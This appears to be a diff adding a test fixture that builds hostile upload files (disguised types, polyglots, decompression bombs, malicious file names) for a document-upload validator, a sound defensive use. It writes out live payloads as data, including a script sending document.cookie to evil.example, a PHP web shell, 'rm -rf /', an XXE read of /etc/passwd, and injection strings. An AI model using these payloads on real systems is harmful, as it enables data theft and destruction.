@@ -1,0 +1,268 @@
+import { deflateSync, gzipSync } from 'node:zlib'
+import {
+  chunk,
+  compoundOf,
+  exif,
+  jpegOf,
+  packed,
+  pdfOf,
+  pngOf,
+  segment,
+} from '../../../modules/documents/testing/files.ts'
+import { docxOf, letter, part, zipOf } from '../../../modules/documents/testing/zips.ts'
+import { EICAR } from '../../../modules/platform/testing/fake-clamd.ts'
+
+/** A file somebody means ill with, and what may become of it: `refused` is all that may, or it is kept as well. */
+export interface HostileFile {
+  readonly why: string
+  readonly name: string
+  readonly type: string
+  readonly content: Buffer
+  readonly may: 'be refused' | 'be either' | 'be kept'
+}
+
+const HTML = '<!doctype html><html><script>fetch("//evil.example?"+document.cookie)</script></html>'
+const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
+
+const GOOD = {
+  pdf: pdfOf('3 0 obj\n<</Type/Page>>\nendobj'),
+  jpg: jpegOf({ between: [exif(6)] }),
+  png: pngOf({ between: [chunk('tEXt', 'Author\0Eve')] }),
+  doc: compoundOf('WordDocument', '1Table'),
+  docx: docxOf(),
+}
+const KINDS = Object.keys(GOOD) as readonly (keyof typeof GOOD)[]
+const TYPES = ['', 'application/octet-stream'] as const
+
+/** What other things begin as, and pretend not to. */
+const OTHERS: Readonly<Record<string, Buffer>> = {
+  html: Buffer.from(HTML),
+  'html after spaces': Buffer.from(`${' '.repeat(2000)}${HTML}`),
+  'html in UTF-16': Buffer.from(`\ufeff${HTML}`, 'utf16le'),
+  svg: Buffer.from(SVG),
+  xml: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
+  script: Buffer.from('#!/bin/sh\nrm -rf /\n'),
+  program: Buffer.concat([Buffer.from('MZ\u0090'), Buffer.alloc(500)]),
+  elf: Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(500)]),
+  gif: Buffer.from(`GIF89a/*${SVG}*/=1;alert(1)`),
+  webp: Buffer.from('RIFF\u0010\0\0\0WEBPVP8 '),
+  rtf: Buffer.from('{\\rtf1\\object\\objdata 01}'),
+  gzip: gzipSync(Buffer.alloc(1_000_000)),
+  zlib: deflateSync(Buffer.alloc(1000)),
+  eicar: Buffer.from(EICAR),
+  zeros: Buffer.alloc(70_000),
+  'one byte': Buffer.from('%'),
+  nothing: Buffer.alloc(0),
+}
+
+const disguised = (): HostileFile[] =>
+  Object.entries(OTHERS).flatMap(([what, content], n) =>
+    KINDS.map((kind) => ({
+      why: `${what} as ${kind}`,
+      name: `letter.${kind}`,
+      type: TYPES[n % 2] ?? '',
+      content,
+      may: 'be refused' as const,
+    })),
+  )
+
+const exchanged = (): HostileFile[] =>
+  KINDS.flatMap((is) =>
+    KINDS.filter((says) => says !== is).map((says) => ({
+      why: `${is} as ${says}`,
+      name: `letter.${says}`,
+      type: '',
+      content: GOOD[is],
+      may: 'be refused' as const,
+    })),
+  )
+
+const declared = (): HostileFile[] =>
+  ['text/html', 'image/svg+xml', 'application/javascript', 'image/gif', 'nonsense', 'a'.repeat(300)].flatMap(
+    (type) => [
+      { why: `pdf declared ${type}`, name: 'a.pdf', type, content: GOOD.pdf, may: 'be refused' },
+      { why: `png declared ${type}`, name: 'a.png', type, content: GOOD.png, may: 'be refused' },
+    ],
+  )
+
+const ENDINGS = ['.html', '.svg', '.exe', '.pdf.exe', '.pdf.', '.pdf::$DATA', '.pdf/', '.docm', '.', '']
+
+const ended = (): HostileFile[] =>
+  ENDINGS.map((ending) => ({
+    why: `ending ${ending}`,
+    name: `letter${ending}`,
+    type: 'application/pdf',
+    content: GOOD.pdf,
+    may: 'be refused',
+  }))
+
+const NAMES = [
+  '../../../etc/passwd.pdf',
+  '..\\..\\windows\\system32\\a.pdf',
+  '/etc/cron.d/a.pdf',
+  'C:\\autoexec.pdf',
+  '\u202efdp.exe.pdf',
+  '\u2066invoice\u2069.pdf',
+  'invoice\u200f.pdf',
+  'a\u0000b.pdf',
+  'a\u0007\u001bb.pdf',
+  'a\r\nSet-Cookie: a=b.pdf',
+  'a\u2028b\u2029.pdf',
+  `a'; filename*=UTF-8''evil.html; x='.pdf`,
+  'a%22%0d%0aX-Evil: 1.pdf',
+  '<img src=x onerror=alert(1)>.pdf',
+  '"><script>alert(1)</script>.pdf',
+  '${7*7}{{7*7}}.pdf',
+  "'; drop table document_list; --.pdf",
+  'CON.pdf',
+  'aux .pdf',
+  '.pdf',
+  '.htaccess.pdf',
+  '-rf.pdf',
+  '~root.pdf',
+  '`id`.pdf',
+  '|cat.pdf',
+  '=cmd|calc!A1.pdf',
+  'a?.pdf',
+  'a*b:c.pdf',
+  `${'a'.repeat(250)}.pdf`,
+  `${'ä'.repeat(400)}.pdf`,
+  `${'🦷'.repeat(120)}.pdf`,
+  'e\u0301\u0300\u0302.pdf',
+  'бюллетень.pdf',
+  '診断書.pdf',
+  'תוצאות.pdf',
+  'a b  c.PDF',
+  'x.html.pdf',
+  '\ufeffa.pdf',
+  '\ufffd.pdf',
+  'constructor.pdf',
+  '__proto__.pdf',
+]
+
+const named = (): HostileFile[] =>
+  NAMES.map((name) => ({ why: `name ${name}`, name, type: '', content: GOOD.pdf, may: 'be either' }))
+
+const truncated = (): HostileFile[] =>
+  KINDS.flatMap((kind) =>
+    [0.1, 0.3, 0.5, 0.7, 0.9, 0.97].map((share) => ({
+      why: `${share} of a ${kind}`,
+      name: `cut.${kind}`,
+      type: '',
+      content: GOOD[kind].subarray(0, Math.floor(GOOD[kind].length * share)),
+      may: 'be either' as const,
+    })),
+  )
+
+const file = (why: string, kind: string, content: Buffer, may: HostileFile['may']): HostileFile => ({
+  why,
+  name: `file.${kind}`,
+  type: '',
+  content,
+  may,
+})
+const behind = (kind: keyof typeof GOOD, more: string | Buffer) =>
+  Buffer.concat([GOOD[kind], Buffer.from(more as string)])
+
+const polyglots = (): HostileFile[] => [
+  file('html before a pdf', 'pdf', Buffer.concat([Buffer.from(HTML), GOOD.pdf]), 'be refused'),
+  file('html behind a pdf', 'pdf', behind('pdf', HTML), 'be either'),
+  file('a zip behind a pdf', 'pdf', behind('pdf', docxOf(part('a', Buffer.alloc(9), {}))), 'be either'),
+  file('html in a comment of a jpeg', 'jpg', jpegOf({ between: [segment(0xfe, HTML)] }), 'be kept'),
+  file(
+    'html in the exif of a jpeg',
+    'jpg',
+    jpegOf({ between: [segment(0xe1, `Exif\0\0${HTML}`)] }),
+    'be kept',
+  ),
+  file('a script behind a jpeg', 'jpg', behind('jpg', '<?php system($_GET[0]); ?>'), 'be kept'),
+  file('a zip behind a jpeg', 'jpg', behind('jpg', docxOf()), 'be kept'),
+  file('html in the text of a png', 'png', pngOf({ between: [chunk('tEXt', `a\0${HTML}`)] }), 'be kept'),
+  file('html behind a png', 'png', behind('png', HTML), 'be kept'),
+  file('a program behind a docx', 'docx', behind('docx', 'MZ'), 'be refused'),
+  file('a pdf before a docx', 'docx', Buffer.concat([GOOD.pdf, GOOD.docx]), 'be refused'),
+  file('html in the remark of a docx', 'docx', zipOf(letter(), { comment: HTML }), 'be either'),
+  file('eicar in a pdf', 'pdf', pdfOf(EICAR), 'be kept'),
+  file('a script in a pdf', 'pdf', pdfOf('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'), 'be kept'),
+  file('a packed script in a pdf', 'pdf', pdfOf(packed('7 0 <</S/JavaScript>>')), 'be kept'),
+  file('a program to start in a pdf', 'pdf', pdfOf('<</S/Launch/F(cmd.exe)>>'), 'be kept'),
+]
+
+const zeros = Buffer.alloc(34_000_000)
+const bombs = (): HostileFile[] => [
+  file('a bomb', 'docx', docxOf(part('word/a.xml', zeros)), 'be refused'),
+  file('a bomb that lies', 'docx', docxOf(part('word/a.xml', zeros, { claimedSize: 1 })), 'be refused'),
+  file('a bomb inside', 'docx', docxOf(part('word/a.docx', docxOf(part('a', zeros)))), 'be refused'),
+  file(
+    'one content many times',
+    'docx',
+    docxOf(
+      ...Array.from({ length: 500 }, (_, n) =>
+        part(`word/${n}`, Buffer.alloc(100_000), { stored: true, shared: n > 0 }),
+      ),
+    ),
+    'be refused',
+  ),
+  file(
+    'many entries',
+    'docx',
+    docxOf(...Array.from({ length: 6000 }, (_, n) => part(`word/${n}`, '', { stored: true }))),
+    'be refused',
+  ),
+  file('macros', 'docx', docxOf(part('word/vbaProject.bin', 'x')), 'be refused'),
+  file('macros', 'doc', compoundOf('WordDocument', '_VBA_PROJECT'), 'be refused'),
+  file('a way out', 'docx', docxOf(part('word/../../../../etc/passwd', 'x')), 'be refused'),
+  file('an absolute name', 'docx', docxOf(part('/etc/passwd', 'x')), 'be refused'),
+  file('entities', 'docx', docxOf(part('word/x.xml', '<!DOCTYPE a [<!ENTITY b "bbb">]>')), 'be either'),
+  file('an enormous png', 'png', pngOf({ width: 2 ** 31, height: 2 ** 31 }), 'be refused'),
+  file('a long png', 'png', pngOf({ width: 100_000_000 }), 'be refused'),
+  file('an enormous jpeg', 'jpg', jpegOf({ width: 65_535, height: 65_535 }), 'be refused'),
+  file('a png of nothing', 'png', pngOf({ width: 0, height: 0 }), 'be refused'),
+  file('a jpeg of beginnings', 'jpg', Buffer.alloc(300_000, 0xff).fill(0xd8, 1, 2), 'be refused'),
+  file(
+    'a jpeg of many segments',
+    'jpg',
+    jpegOf({ between: Array.from({ length: 6000 }, () => segment(0xdd, 'ab')) }),
+    'be refused',
+  ),
+  file(
+    'a png of many chunks',
+    'png',
+    pngOf({ between: Array.from({ length: 60_000 }, () => chunk('IDAT', '')) }),
+    'be refused',
+  ),
+  file('a pdf that unpacks to much', 'pdf', pdfOf(packed(' '.repeat(20_000_000))), 'be refused'),
+  file('a pdf of objects', 'pdf', pdfOf('<<'.repeat(200_000)), 'be either'),
+  file('a pdf of names', 'pdf', pdfOf('/'.repeat(200_000)), 'be either'),
+]
+
+/** The same numbers in every run. */
+const chance = (seed: number) => () => {
+  seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0
+  return seed / 2 ** 32
+}
+
+/** Good files with some bytes changed. */
+const spoilt = (): HostileFile[] => {
+  const next = chance(7)
+  return Array.from({ length: 80 }, (_, n) => {
+    const kind = KINDS[n % KINDS.length] ?? 'pdf'
+    const content = Buffer.from(GOOD[kind])
+    for (let left = 1 + Math.floor(next() * 12); left > 0; left -= 1)
+      content[Math.floor(next() * content.length)] = Math.floor(next() * 256)
+    return file(`spoilt ${n}`, kind, content, 'be either')
+  })
+}
+
+/** Three hundred files nobody should have to fear. */
+export const hostileFiles = (): readonly HostileFile[] => [
+  ...disguised(),
+  ...exchanged(),
+  ...declared(),
+  ...ended(),
+  ...named(),
+  ...truncated(),
+  ...polyglots(),
+  ...bombs(),
+  ...spoilt(),
+]
